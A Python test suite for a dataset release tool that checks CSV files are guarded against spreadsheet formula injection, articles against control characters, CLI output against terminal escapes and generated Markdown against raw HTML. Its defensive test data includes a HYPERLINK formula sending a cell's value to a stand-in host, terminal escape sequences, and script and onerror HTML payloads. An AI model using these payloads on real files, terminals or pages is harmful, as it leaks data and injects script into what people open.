"""Nothing a release holds can hurt the person who opens it (issue 22): spreadsheet formulas in the
CSV files, control characters in articles, terminal escapes in what the CLI prints, raw HTML in the
generated Markdown; damaged files and odd outputs are one line with the documented exit code, never a
traceback; `make` says (or installs) the system packages it needs on a bare machine.

Everything runs in-process where it can (the build, the CLI, the docs functions on small inputs).
"""
from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from conftest import ROOT, copy_project

import cartel_campaign as cc
from cartel_campaign import cli, coverage, diff, draft, release, safety
from cartel_campaign.build import card, docs, pipeline
from cartel_campaign.validation.files import csv_agreement, read_release

A4 = "seeds/004_a369d1b0aa72c426.yaml"
T4 = "seeds/004_a369d1b0aa72c426.txt"
NEWEST = cc.versions(ROOT)[-1]  # the newest published release: what info, load and coverage read by default
SUMMARY = "summary: The FTO designation of the Cartel de los Soles is to take effect on November 24."
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1",
           "'=already guarded?", "''+twice", "'plain apostrophe", "a=1 inside", "plain"]


@pytest.fixture(scope="module")
def proj(tmp_path_factory):
    """One project copy for the build cases; each case restores what it edits."""
    return copy_project(tmp_path_factory.mktemp("safety") / "project")


def edited(proj: Path, rel: str, old: str, new: str):
    """Replace the only occurrence of old in proj/rel; returns (line of old, a function that restores the file)."""
    path = proj / rel
    raw = path.read_bytes()
    text = raw.decode("utf-8")
    assert text.count(old) == 1, (rel, old)
    path.write_bytes(text.replace(old, new).encode("utf-8"))
    return text[: text.index(old)].count("\n") + 1, lambda: path.write_bytes(raw)


@pytest.fixture
def data_root(tmp_path, monkeypatch):
    """A copy of the installed data (dataset/, datapackage.json, seeds/) the CLI reads, to damage."""
    root = tmp_path / "data"
    root.mkdir()
    for name in ("dataset", "seeds"):
        shutil.copytree(ROOT / name, root / name)
    shutil.copy(ROOT / "datapackage.json", root)
    monkeypatch.setenv(cc.DATA_ENV, str(root))
    return root


def rewrite_descriptor(folder: Path, change) -> None:
    path = folder / "datapackage.json"
    desc = json.loads(path.read_text(encoding="utf-8"))
    change(desc)
    path.write_text(json.dumps(desc), encoding="utf-8")


# ------------------------------------------------------------------ 1. spreadsheet formulas ----
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_annotated_text_beginning_like_a_formula_is_refused_at_file_line(proj, start, capsys):
    line, restore = edited(proj, A4, SUMMARY, f'summary: "{start}HYPERLINK(1)"')
    try:
        code = pipeline.main(["--root", str(proj), "-q"])
    finally:
        restore()
    err = capsys.readouterr().err
    assert code == 2
    assert err == (f"error: {A4}:{line}: events[1]: summary begins with {start!r}, which a spreadsheet opening the CSV runs "
                   f"as a formula; expected text beginning with a letter, a digit or a quotation mark (found '{start}HYPERLINK(1)')\n")


def test_the_formula_rule_names_every_formula_start():
    assert [v[:1] for v in HOSTILE if safety.formula_rule(v)] == ["=", "+", "-", "@", "\t", "\r"]
    assert all(safety.formula_rule(v) is None for v in ("plain", "'=guarded", "a=1", "“=quoted”"))


def hostile_table() -> pa.Table:
    return pa.table({"id": [f"r{i}" for i in range(len(HOSTILE) + 1)], "text": HOSTILE + [None],
                     "n": list(range(len(HOSTILE) + 1))})


SCHEMA = {"fields": [{"name": "id", "type": "string"}, {"name": "text", "type": "string"}, {"name": "n", "type": "integer"}]}


def test_csv_cells_are_guarded_and_read_back_as_the_parquet_values(tmp_path):
    table = hostile_table()
    release.write_table(table, tmp_path, "t")
    rows = (tmp_path / "t.csv").read_text(encoding="utf-8").split("\n")[1:]
    cells = release.read_csv(tmp_path / "t.csv", SCHEMA, as_written=True)["text"].to_pylist()
    assert [c for c in cells if c is not None and c[:1] in release.CSV.formula_start] == []
    assert cells[:6] == ["'" + v for v in HOSTILE[:6]] and cells[6:8] == ["''=already guarded?", "'''+twice"]
    assert cells[8:] == ["'plain apostrophe", "a=1 inside", "plain", None]  # nothing else changes
    assert "'=HYPERLINK(" in rows[0] and "'+1+2" in rows[1]
    assert release.read_csv(tmp_path / "t.csv", SCHEMA)["text"].to_pylist() == table["text"].to_pylist()
    assert csv_agreement(tmp_path / "t.csv", release.read_parquet(tmp_path / "t.parquet"), SCHEMA, "t") == []


def test_validate_refuses_a_csv_cell_that_begins_like_a_formula(tmp_path):
    import pyarrow.csv as pacsv

    table = hostile_table()
    pacsv.write_csv(table, tmp_path / "t.csv", release.CSV.write_options())  # written without the guard
    problems = csv_agreement(tmp_path / "t.csv", table, SCHEMA, "t")
    assert problems[0] == ("t.csv: row 0, column text: a cell begins with '=', which a spreadsheet opening the CSV runs as a "
                           "formula; expected text beginning with a letter, a digit or a quotation mark (found '=HYPERLINK(\"http://x.example/?\"&A1,\"click\")')")
    assert [p.split(", column")[0] for p in problems] == [f"t.csv: row {i}" for i in range(5)]  # the first five per column


def _events_csv_cases(folder: Path, table: pa.Table) -> dict:
    """The newest release's events table written as a CSV in ways the rule must see, each {name: (CSV path, what
    its rows must agree with)}: as it is, a late row's value changed, a late cell written without its formula guard,
    its last row left out."""
    import pyarrow.compute as pc
    import pyarrow.csv as pacsv

    last = table.num_rows - 1
    changed = table.set_column(table.column_names.index("summary"), "summary",
                               pc.if_else(pa.array([i == last for i in range(table.num_rows)]), "changed", table["summary"]))
    formula = table.set_column(table.column_names.index("note"), "note",
                               pc.if_else(pa.array([i == last - 1 for i in range(table.num_rows)]), "=1+1", table["note"]))
    written = {"same": table, "changed": changed, "last-row-left-out": table.slice(0, last)}
    cases = {}
    for name, rows in written.items():
        (folder / name).mkdir()
        release.write_table(rows, folder / name, "events")
        cases[name] = (folder / name / "events.csv", table)
    (folder / "formula").mkdir()
    pacsv.write_csv(formula, folder / "formula" / "events.csv", release.CSV.write_options())  # no guard
    cases["formula"] = (folder / "formula" / "events.csv", formula)
    return cases


def test_the_csv_rule_read_a_block_at_a_time_finds_what_one_read_finds(tmp_path, monkeypatch):
    """csv_agreement reads the CSV a block at a time (release.csv_blocks): with blocks of 4 KiB (the events CSV in
    several) it finds, row for row, what it finds with the file in one block; rows are counted across blocks."""
    table = release.read_parquet(ROOT / "dataset" / NEWEST / "events.parquet")
    schema = json.loads((ROOT / "dataset" / NEWEST / "datapackage.json").read_text(encoding="utf-8"))
    schema = next(r["schema"] for r in schema["resources"] if r["name"] == "events")
    cases = _events_csv_cases(tmp_path, table)
    whole = {name: csv_agreement(path, rows, schema, "pair") for name, (path, rows) in cases.items()}
    last = table.num_rows - 1
    assert whole["same"] == [] and whole["changed"][0].startswith(f"pair at row {last}, column summary: CSV 'changed'")
    assert whole["formula"] == [f"events.csv: row {last - 1}, column note: a cell {safety.formula_rule('=1+1')}"]
    assert whole["last-row-left-out"][0].startswith(f"pair: CSV has {last} rows")
    blocks = []
    real = release.csv_blocks
    monkeypatch.setattr(release, "CSV_BLOCK_BYTES", 4096)
    monkeypatch.setattr(release, "csv_blocks", lambda *a: (lambda names, it: (names, (blocks.append(b) or b for b in it)))(*real(*a)))
    by_blocks = {name: csv_agreement(path, rows, schema, "pair") for name, (path, rows) in cases.items()}
    assert by_blocks == whole
    assert len(blocks) > 4 * len(cases), "the CSV was not read in several blocks"


def test_a_parquet_file_reads_back_as_its_table_column_by_column(tmp_path):
    """release.reads_back_as (the build's read-back of each Parquet file it wrote, a column at a time): the same
    table, a changed value, a changed type."""
    import pyarrow.compute as pc

    table = release.read_parquet(ROOT / "dataset" / NEWEST / "events.parquet")
    release.write_table(table, tmp_path, "events")
    path = tmp_path / "events.parquet"
    assert release.reads_back_as(path, table)
    last = table.column_names[-1]
    assert not release.reads_back_as(path, table.set_column(table.num_columns - 1, last, pc.if_else(
        pa.array([i == table.num_rows - 1 for i in range(table.num_rows)]), "x", pc.cast(table[last], pa.string()))))
    assert not release.reads_back_as(path, table.cast(pa.schema([f.with_type(pa.large_string()) if f.name == "summary" else f
                                                                   for f in table.schema])))


def test_published_csv_files_are_what_the_guarded_format_writes():
    """The guard changes no published byte: no value of 0.1.0, 1.0.0 or 1.1.0 needs it (they keep rebuilding and validating)."""
    for version in cc.versions(ROOT, drafts=True):
        folder = ROOT / "dataset" / version
        for res in json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))["resources"]:
            cells = release.read_csv(folder / res["path"], res["schema"], as_written=True)
            assert release.CSV.guard(cells).equals(cells), (version, res["name"])
            assert not any(safety.formula_cells(cells, res["path"]).values()), (version, res["name"])


def test_the_r_reader_removes_the_guard(tmp_path):
    if shutil.which("Rscript") is None:
        if os.environ.get("CI"):
            pytest.fail("Rscript is not installed, but CI is set")
        pytest.skip("Rscript not found")
    folder = tmp_path / "root" / "dataset" / "9.9.9"
    folder.mkdir(parents=True)
    release.write_table(hostile_table(), folder, "t")
    (folder / "datapackage.json").write_text(json.dumps({"name": "t", "version": "9.9.9", "resources": [
        {"name": "t", "path": "t.csv", "encoding": "utf-8", "dialect": release.CSV.descriptor(), "schema": SCHEMA}]}), encoding="utf-8")
    script = tmp_path / "read.R"
    script.write_text(f'for (f in list.files("{ROOT / "r" / "R"}", full.names = TRUE)) source(f)\n'
                      f'cat(jsonlite::toJSON(cc_read("t", "9.9.9", root = "{tmp_path / "root"}")$text, na = "null"))\n', encoding="utf-8")
    proc = subprocess.run(["Rscript", "--vanilla", str(script)], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == HOSTILE + [None]


# ------------------------------------------------------------------ 2. control characters in articles ----
@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x07", "\x0b", "\x7f", "\x85", "\x9b"])
def test_article_with_a_control_character_is_refused_at_file_line_column(proj, char, capsys):
    text = (proj / T4).read_text(encoding="utf-8")
    anchor = "a tougher approach"
    at = text.index(anchor)
    line, column = text.count("\n", 0, at) + 1, at - text.rfind("\n", 0, at)
    _, restore = edited(proj, T4, anchor, char + anchor)
    try:
        code = pipeline.main(["--root", str(proj), "-q"])
    finally:
        restore()
    assert code == 2
    assert capsys.readouterr().err == (f"error: {T4}:{line}:{column}: a control character U+{ord(char):04X}; "
                                       "expected text with no control character but newline and tab\n")


def test_tab_and_newline_are_not_control_characters():
    assert safety.control_character("a\tb\nc") is None
    assert safety.control_character("ab\ncd\x1b") == (2, 3, "a control character U+001B; expected text with no control character but newline and tab")


# ------------------------------------------------------------------ 3. terminal escapes ----
ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\u202e"


def test_terminal_shows_escapes_instead_of_acting_on_them():
    shown = safety.terminal(f"a{ESCAPES}b\tc\nd")
    assert shown == "a\\x1b]0;owned\\x07\\x1b[2J\\r\\u202eb\tc\nd"
    assert safety.terminal(shown) == shown


def test_info_prints_descriptor_text_safely(data_root, capsys):
    rewrite_descriptor(data_root / "dataset" / NEWEST, lambda d: d["resources"][0].update(description=f"rows{ESCAPES}"))
    assert cli.main(["info"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\r" not in out
    assert "rows\\x1b]0;owned\\x07" in out


def test_diff_prints_data_safely(data_root, capsys):
    def add_column(desc):  # a column name reaches the schema changes as it is
        next(r for r in desc["resources"] if r["name"] == "events")["schema"]["fields"].append({"name": f"x{ESCAPES}owned", "type": "string"})
    rewrite_descriptor(data_root / "dataset" / NEWEST, add_column)
    for args in (["diff", "1.0.0", NEWEST], ["diff", "--markdown", "1.0.0", NEWEST]):
        assert cli.main(args) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out
        assert "x\\x1b" in out and "owned\\x07\\x1b" in out  # shown as escapes


def test_coverage_prints_article_sentences_safely(data_root, capsys):
    path = data_root / T4
    path.write_text(path.read_text(encoding="utf-8") + f"\nA closing line{ESCAPES} nobody annotated.\n", encoding="utf-8")
    assert coverage.main(["004"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out
    assert "A closing line\\x1b]0;owned\\x07\\x1b[2J" in out and "\\u202e nobody annotated." in out


# ------------------------------------------------------------------ 4. raw HTML in generated Markdown ----
SCRIPT = "<script>alert(1)</script>"


def test_markdown_escapes_html_links_and_cells():
    assert safety.markdown(f"{SCRIPT} [x](javascript:alert(1)) a|b `c` &amp;\nnext") == (
        "&lt;script&gt;alert(1)&lt;/script&gt; \\[x\\](javascript:alert(1)) a\\|b \\`c\\` &amp;amp; next")
    assert safety.markdown("a`b|<i>", code=True) == "``a`b\\|<i>``"
    assert safety.markdown("`x`", code=True) == "`` `x` ``"


def test_codebook_card_and_diff_escape_values(tmp_path):
    folder = ROOT / "dataset" / NEWEST
    desc = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    schemas = {r["name"]: {**r["schema"], "description": r["description"]} for r in desc["resources"]}
    schemas["events"]["description"] = SCRIPT
    schemas["events"]["fields"][0]["description"] = SCRIPT
    meta = {"tables": list(schemas), "derived_tables": [], "description": SCRIPT}
    book = docs.codebook(meta, schemas, folder, NEWEST)
    actors = pd.DataFrame({"actor_type": ["person"], "name": [SCRIPT]})
    articles = pd.DataFrame({"article_id": ["000_x`y"], "sha256": ["0" * 64], "n_chars": [1], "title": [SCRIPT], "outlet": ["<b>o</b>"], "byline": [None],
                             "published_earliest": [pd.Timestamp("2025-01-01")], "published_latest": [pd.Timestamp("2025-01-02")],
                             "annotation_status": ["<i>complete</i>"]})
    old = tmp_path / "old"
    shutil.copytree(ROOT / "dataset" / "1.0.0", old)
    rewrite_descriptor(old, lambda d: next(f for r in d["resources"] if r["name"] == "events" for f in r["schema"]["fields"]
                                           if f["name"] == "event_type")["constraints"]["enum"].append(SCRIPT))
    changes = diff.markdown(old, folder, "a", "b")
    for text in (book, card.persons(actors), card.sources(articles), changes):
        assert "<script>" not in text and "<b>" not in text and "<i>" not in text, text[:300]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in book and "&lt;script&gt;" in card.persons(actors) + changes


def test_changelog_escapes_notes_and_corrections():
    releases = [{"version": "1.0.0", "date": pd.Timestamp("2026-01-01").date(), "status": "published",
                 "notes": SCRIPT, "breaking": SCRIPT,
                 "corrections": [{"table": "events", "record_id": "x`", "what": SCRIPT, "why": "<img src=x onerror=alert(1)>"}]}]
    text = docs.changelog(ROOT, ROOT / "dataset" / "1.0.0", releases)
    assert "<script>" not in text and "<img" not in text


# ------------------------------------------------------------------ 15. tracebacks ----
def truncate(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:3000])


@pytest.mark.parametrize("args", [["info"], ["diff", "1.0.0", NEWEST], ["diff", "--markdown", "1.0.0", NEWEST]])
def test_a_truncated_parquet_file_is_one_line_and_exit_1(data_root, args, capsys):
    truncate(data_root / "dataset" / NEWEST / "events.parquet")
    assert cli.main(args) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "events.parquet" in err
    assert err.startswith("error: ") and "cartel-campaign validate" in err
    assert "cannot be read (ArrowInvalid: " in err or "damaged or changed: expected " in err  # the footer, or the manifest's sha256


def test_info_names_the_damaged_file(data_root, capsys):
    truncate(data_root / "dataset" / NEWEST / "events.parquet")
    assert cli.main(["info"]) == 1
    assert capsys.readouterr().err.startswith(f"error: {data_root / 'dataset' / NEWEST / 'events.parquet'}: cannot be read (ArrowInvalid: ")


def test_validate_reports_an_unreadable_parquet_file(data_root):
    path = data_root / "dataset" / NEWEST / "events.parquet"
    path.unlink()
    path.mkdir()  # a folder where the file belongs: pyarrow reads it as an empty dataset, then cannot open it
    _, tables, _, problems = read_release(data_root / "dataset" / NEWEST)
    assert "events" not in tables
    assert any(p.startswith("events.parquet: unreadable (") for p in problems), problems


def cp1252_stdout(monkeypatch) -> io.BytesIO:
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii", errors="strict"))
    return raw


def test_diff_markdown_into_a_stdout_that_cannot_encode_arrows(data_root, monkeypatch):
    raw = cp1252_stdout(monkeypatch)
    assert cli.main(["diff", "--markdown", "1.0.0", NEWEST]) == 0
    sys.stdout.flush()
    assert raw.getvalue().decode("ascii").startswith(f"Data changes 1.0.0 \\u2192 {NEWEST} ")


def test_coverage_into_a_stdout_that_cannot_encode_the_text(data_root, monkeypatch):
    raw = cp1252_stdout(monkeypatch)
    assert coverage.main(["004"]) == 0
    sys.stdout.flush()
    assert "\\u2019" in raw.getvalue().decode("ascii")


def test_draft_into_a_missing_folder_or_onto_a_folder(tmp_path, capsys):
    article = ROOT / T4
    assert draft.main([str(article), "-o", str(tmp_path / "missing" / "x.yaml")]) == 2
    assert capsys.readouterr().err == f"error: {tmp_path / 'missing' / 'x.yaml'}: cannot write the draft (No such file or directory)\n"
    assert draft.main([str(article), "-o", str(tmp_path), "--force"]) == 2
    assert capsys.readouterr().err == f"error: {tmp_path}: cannot write the draft (Is a directory)\n"


@pytest.mark.parametrize("dangling", [True, False])
def test_draft_never_writes_through_a_symbolic_link(tmp_path, capsys, dangling):
    """Issue 22.12: `draft -o` onto a link (to a file, or to one not yet there) writes nothing, even with --force."""
    target = tmp_path / "elsewhere.yaml"
    if not dangling:
        target.write_text("keep\n", encoding="utf-8")
    link = tmp_path / "005_x.yaml"
    link.symlink_to(target)
    assert draft.main([str(ROOT / T4), "-o", str(link), "--force"]) == 2
    assert capsys.readouterr().err == f"error: {link} is a symbolic link; not writing through it (give the annotation's own path)\n"
    assert (not target.exists()) if dangling else target.read_text(encoding="utf-8") == "keep\n"


def test_draft_refuses_an_actor_registry_with_a_list_for_a_name(tmp_path, capsys):
    actors = tmp_path / "actors.yaml"
    actors.write_text((ROOT / "seeds" / "actors.yaml").read_text(encoding="utf-8").replace("name: Marco Rubio", "name: [Marco, Rubio]"), encoding="utf-8")
    line = actors.read_text(encoding="utf-8").split("name: [Marco")[0].count("\n") + 1
    assert draft.main([str(ROOT / T4), "--actors", str(actors)]) == 2
    assert capsys.readouterr().err == f"error: {actors}:{line}: actor 'marco-rubio': name must be text, found ['Marco', 'Rubio']\n"


@pytest.mark.parametrize("body, message", [
    ("quotes: 5", "quotes must be a list, found int 5"),
    ("quotes: [1]", "an item of quotes is int 1"),
    ("events: [{evidence: 7}]", "events[…].evidence must be a list, found int 7"),
    ("quotes: [{text: x, occurrence: two}]", "'x': occurrence must be a whole number ≥ 1, found 'two'"),
    ("exclusions: [{reason: x}]", "an item of exclusions is dict {'reason': 'x'}"),
])
def test_coverage_of_a_malformed_annotation_is_one_line(tmp_path, body, message, capsys):
    (tmp_path / "004_a369d1b0aa72c426.txt").write_bytes((ROOT / T4).read_bytes())
    annotation = tmp_path / "004_a369d1b0aa72c426.yaml"
    annotation.write_text(f"article: 004_a369d1b0aa72c426.txt\n{body}\n", encoding="utf-8")
    assert coverage.main(["--annotation", str(annotation)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {annotation}: {message}") and err.count("\n") == 1


def test_an_unreadable_seed_is_a_refused_read(proj, capsys):
    actors = proj / "seeds" / "actors.yaml"
    saved = actors.read_bytes()
    actors.unlink()
    actors.mkdir()  # unreadable even for root
    try:
        code = pipeline.main(["--root", str(proj), "-q"])
    finally:
        actors.rmdir()
        actors.write_bytes(saved)
    assert code == 2
    assert capsys.readouterr().err == ("error: seeds/actors.yaml: the operating system refused to read it (Is a directory, EISDIR); "
                                       "nothing was written; fix this and build again\n")


# ------------------------------------------------------------------ 16. set-up on a bare machine ----
SYSTEM_PACKAGES = ROOT / ".ci" / "system-packages"


def fake_bin(tmp_path: Path, uid: int, tools: dict[str, str]) -> dict:
    """An environment whose PATH holds only fakes: `id -u` says uid, each tool a script (body given)."""
    bin_ = tmp_path / "bin"
    bin_.mkdir()
    tools = {"id": f"echo {uid}", **tools}
    for name, body in tools.items():
        (bin_ / name).write_text(f"#!/bin/sh\n{body}\n", encoding="utf-8")
        (bin_ / name).chmod(0o755)
    return {"PATH": str(bin_), "HOME": str(tmp_path)}


def test_a_bare_machine_without_root_stops_at_once_naming_the_command(tmp_path):
    env = fake_bin(tmp_path, 1000, {"pkg-config": "exit 1", "apt-get": "echo called >> apt.log"})
    proc = subprocess.run(["/bin/bash", str(SYSTEM_PACKAGES)], env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1
    assert proc.stderr == ("error: missing system packages (libicu-dev pkg-config g++) that pip needs to compile PyICU; "
                           "install them first (Debian/Ubuntu): sudo apt-get install -y libicu-dev pkg-config g++\n")
    assert not (tmp_path / "apt.log").exists()


def test_a_bare_machine_as_root_installs_what_is_missing(tmp_path):
    env = fake_bin(tmp_path, 0, {"pkg-config": "exit 1", "apt-get": f'echo "$@" >> {tmp_path}/apt.log'})
    proc = subprocess.run(["/bin/bash", str(SYSTEM_PACKAGES), "chromium"], env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "apt.log").read_text().splitlines() == [
        "update -qq", "install -y -qq --no-install-recommends libicu-dev pkg-config g++ chromium"]


def test_a_ready_machine_installs_nothing(tmp_path):
    env = fake_bin(tmp_path, 1000, {"pkg-config": "exit 0", "g++": "exit 0", "apt-get": "echo called >> apt.log"})
    proc = subprocess.run(["/bin/bash", str(SYSTEM_PACKAGES)], env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert (proc.returncode, proc.stderr) == (0, "")
    assert not (tmp_path / "apt.log").exists()


@pytest.mark.parametrize("target", ["dataset", "test"])
def test_make_checks_the_system_packages_before_pip_compiles(tmp_path, target):
    make = shutil.which("make")
    if make is None:
        pytest.skip("make not found")
    env = fake_bin(tmp_path, 1000, {"pkg-config": "exit 1", "python3": f"echo python3 \"$@\" >> {tmp_path}/python.log"})
    env["PATH"] += ":/usr/bin:/bin"  # sh, touch …; no g++ is looked up there: pkg-config (the fake) already failed
    proc = subprocess.run([make, "-C", str(ROOT), target, f"VENV={tmp_path / 'venv'}"], env=env, capture_output=True, text=True, timeout=60)
    assert proc.returncode != 0
    assert "sudo apt-get install -y libicu-dev pkg-config g++" in proc.stderr
    assert not (tmp_path / "python.log").exists() and not (tmp_path / "venv").exists()
